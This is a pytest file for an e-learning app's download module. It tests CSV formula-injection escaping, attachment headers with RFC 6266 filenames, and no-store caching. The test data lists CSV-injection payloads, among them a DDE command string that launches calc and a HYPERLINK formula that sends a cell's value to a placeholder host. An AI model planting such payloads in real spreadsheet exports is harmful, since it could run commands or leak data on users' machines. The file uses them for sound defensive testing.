"""Downloads: cells no spreadsheet runs, attachment headers, and no cache keeps a personal file."""

from datetime import date
from decimal import Decimal

import pytest

from elearn.downloads import Download, content_disposition, safe_cell, send

HOSTILE = ["=1+1", "+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x?"&A1,"c")', "=cmd|' /C calc'!A0",
           "\tTAB", "\rCR", "\0NUL", "\n=1+1"]


@pytest.mark.parametrize("value", [*HOSTILE, *(" " + v for v in HOSTILE), *("   " + v for v in HOSTILE)])
def test_a_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(("value", "expected"), [
    ("Ann Learner", "Ann Learner"),
    ("O'Neil, Siân", "O'Neil, Siân"),
    ("1+1", "1+1"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (date(2026, 12, 5), "2026-12-05"),
    (-12, "-12"),
    (Decimal("-12.5"), "-12.5"),
    (42, "42"),
])
def test_ordinary_cells_are_unchanged(value, expected):
    assert safe_cell(value) == expected


def test_a_non_ascii_name_gets_an_ascii_fallback_and_an_rfc_6266_name():
    header = content_disposition("cpd-certificate-x-learner.pdf", "cpd-certificate-x-王小明.pdf")
    assert header.startswith('attachment; filename="cpd-certificate-x-learner.pdf"; filename*=UTF-8\'\'')
    assert header.isascii()


def test_every_download_is_an_attachment_no_cache_keeps(app):
    with app.test_request_context():
        response = send(Download(b"x", "text/csv", "record.csv"))
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.headers["Content-Disposition"] == 'attachment; filename="record.csv"'
